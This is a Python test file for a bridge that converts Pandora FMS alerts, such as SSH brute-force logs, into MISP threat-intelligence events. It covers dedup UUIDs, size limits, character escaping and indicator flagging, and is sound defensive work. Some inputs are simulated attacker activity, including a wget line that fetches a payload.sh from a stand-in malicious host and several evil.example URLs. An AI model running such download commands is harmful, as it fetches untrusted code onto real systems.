"""Event building (pure): the MISP event JSON for an alert, compared with a golden file."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import pytest

from misp_bridge.pandora.event import Alert, build_event, dedup_uuid, ip_attribute_uuid
from misp_bridge.pandora.iocs import extract
from misp_bridge.pandora.storable import MAX_VALUE_BYTES, unescape_4byte
from misp_bridge.pandora.triage import classify, load_rules

GOLDEN = Path(__file__).resolve().parent / "golden" / "pandora_sshd_event.json"
NOW = 1_700_000_000.0
SSHD = (
    "Oct 11 22:14:15 web1 sshd[4242]: "
    "Failed password for invalid user admin from 203.0.113.77 port 52144 ssh2"
)


def built(data: str, *, name: str = "SSH brute force", dedup_hours: float = 24.0, **options: object):  # type: ignore[no-untyped-def]
    alert = Alert(url="https://misp.example", agent="web1", name=name, data=data, **options)  # type: ignore[arg-type]
    extraction = extract(data, own_addresses=(alert.agent,))
    triage = classify(name, data, load_rules(), extraction.json_data)
    return build_event(
        alert,
        extraction,
        triage,
        now=NOW,
        dedup_hours=dedup_hours,
        new_uuid=lambda: "00000000-0000-4000-8000-000000000001",
    )


def test_sshd_event_matches_golden() -> None:
    event = json.loads(json.dumps(built(SSHD).event))
    assert event == json.loads(GOLDEN.read_text(encoding="utf-8"))


def test_uuid_and_ip_attribute_uuid_are_deterministic() -> None:
    result = built(SSHD)
    bucket = int(NOW // 86400)
    assert result.uuid == dedup_uuid("web1", "SSH brute force", "203.0.113.77", bucket)
    assert result.twin_uuids == (
        result.uuid,
        dedup_uuid("web1", "SSH brute force", "203.0.113.77", bucket - 1),
    )
    assert result.ip_attribute_uuid == str(uuid.uuid5(uuid.UUID(result.uuid), "attacker-ip"))
    assert result.ip_attribute_uuid == ip_attribute_uuid(result.uuid)
    assert built(SSHD).event == result.event


@pytest.mark.parametrize(
    ("data", "dedup_hours"),
    [
        pytest.param("disk full on /var", 24.0, id="no-attacker-ip"),
        pytest.param(SSHD, 0.0, id="dedup-off"),
    ],
)
def test_no_dedup_gets_a_fresh_uuid(data: str, dedup_hours: float) -> None:
    result = built(data, dedup_hours=dedup_hours)
    assert result.uuid == "00000000-0000-4000-8000-000000000001"
    assert result.twin_uuids == ()


def test_internal_attacker_is_still_a_detection_with_a_note() -> None:
    result = built("Failed password for root from 10.9.8.7 port 22 ssh2")
    [ip] = [a for a in result.event["Attribute"] if a["type"] == "ip-src"]
    assert ip["to_ids"] is True
    assert "internal address" in ip["comment"]


@pytest.mark.parametrize(
    "unit", ["A", "\u00e9", "\u4e2d", "x\U0001f525"], ids=["ascii", "2-byte", "3-byte", "4-byte"]
)
def test_finding_7_the_raw_text_always_fits_misps_65535_bytes(unit: str) -> None:
    """Issue 8, finding 7: MISP drops (with a 200) a value over 65,535 bytes; 90 KB of data lost the
    raw-text attribute. The text is cut on a character boundary, with a marker saying how much."""
    data = unit * (90_000 // len(unit.encode("utf-8")))
    [text] = [a for a in built(data).event["Attribute"] if a["type"] == "text"]
    raw = text["value"].encode("utf-8")
    assert 65_000 < len(raw) <= MAX_VALUE_BYTES
    kept, _, marker = text["value"].rpartition("\n")
    cut = int(marker.split("pandora_to_misp: ")[1].split(" ")[0])
    assert len(kept.encode("utf-8")) + cut == len(unescape_4byte(data).encode("utf-8")) or "\\U" in kept
    assert marker.endswith("more bytes of the alert were not kept]")


def test_a_short_text_is_sent_whole() -> None:
    [text] = [a for a in built(SSHD).event["Attribute"] if a["type"] == "text"]
    assert text["value"] == SSHD


def test_finding_6_4_byte_characters_are_escaped_visibly_and_reversibly() -> None:
    """Issue 8, finding 6: utf8mb3 MISP answers 500 to a 4-byte character in info or a comment, on every
    replay. They are written \\U0001f525-style (backslashes doubled), and an IOC that needed it is no
    detection rule."""
    name = "Fire \U0001f525 alert"
    data = "C:\\temp\\x \U0001f525 from 203.0.113.77 port 22 http://evil\U0001f525.example.com/a"
    event = built(f"sshd: Failed password for root {data}", name=name).event
    assert event["info"] == "Pandora FMS: Fire \\U0001f525 alert on web1 from 203.0.113.77"
    assert all(ord(c) <= 0xFFFF for c in json.dumps(event, ensure_ascii=False))
    [text] = [a for a in event["Attribute"] if a["type"] == "text"]
    assert unescape_4byte(text["value"]) == f"sshd: Failed password for root {data}"
    assert "\\\\temp" in text["value"] and "backslashes doubled" in text["comment"]
    [url] = [a for a in event["Attribute"] if a["type"] == "url"]
    assert "\\U0001f525" in url["value"] and url["to_ids"] is False


def test_an_unescaped_text_keeps_its_backslashes() -> None:
    data = "C:\\Windows\\System32\\cmd.exe from 203.0.113.77"
    [text] = [a for a in built(data).event["Attribute"] if a["type"] == "text"]
    assert text["value"] == data and text["comment"] == "raw alert data from Pandora FMS"


def test_finding_15_indicators_the_attacker_wrote_are_no_detection_rules() -> None:
    """Issue 8, finding 15: a URL in a user-agent and the empty-file MD5 were added with to_ids true."""
    data = (
        "sshd: Failed password for root from 203.0.113.77 port 22; user-agent curl http://198.51.100.9/x "
        "https://evil.example.net/p file d41d8cd98f00b204e9800998ecf8427e 0123456789abcdef0123456789abcdef"
    )
    event = built(data).event
    to_ids = {a["value"]: a["to_ids"] for a in event["Attribute"]}
    assert to_ids["203.0.113.77"] is True  # the attacker's address stays a detection rule
    assert not any(v for k, v in to_ids.items() if k != "203.0.113.77")


def test_a_rule_that_vouches_for_a_type_makes_it_a_detection_rule() -> None:
    data = "wget http://malicious-host.top/payload.sh -O /tmp/p; md5 d41d8cd98f00b204e9800998ecf8427e"
    event = built(data, name="Tool download").event
    to_ids = {a["value"]: a["to_ids"] for a in event["Attribute"]}
    assert to_ids["http://malicious-host.top/payload.sh"] is True  # tool-download vouches for url
    assert to_ids["d41d8cd98f00b204e9800998ecf8427e"] is False  # never the empty file


def test_overrides_and_extra_tags() -> None:
    event = built(SSHD, tlp="tlp:red", sharing=2, threat_level=1, category="External analysis",
                  tags=("SOC", "tlp:red")).event  # fmt: skip
    names = [t["name"] for t in event["Tag"]]
    assert names[0] == "tlp:red"
    assert names.count("tlp:red") == 1
    assert names[-1] == "SOC"
    assert (event["distribution"], event["threat_level_id"]) == ("2", "1")
    assert event["Attribute"][0]["category"] == "External analysis"


def test_extra_iocs_become_attributes() -> None:
    data = "Failed password for root from 203.0.113.9 port 22; see hxxp://evil[.]example/x.sh CVE-2021-44228"
    types = {a["type"]: a for a in built(data).event["Attribute"]}
    assert types["url"]["value"] == "http://evil.example/x.sh"
    assert types["vulnerability"]["to_ids"] is False
    assert types["vulnerability"]["category"] == "External analysis"
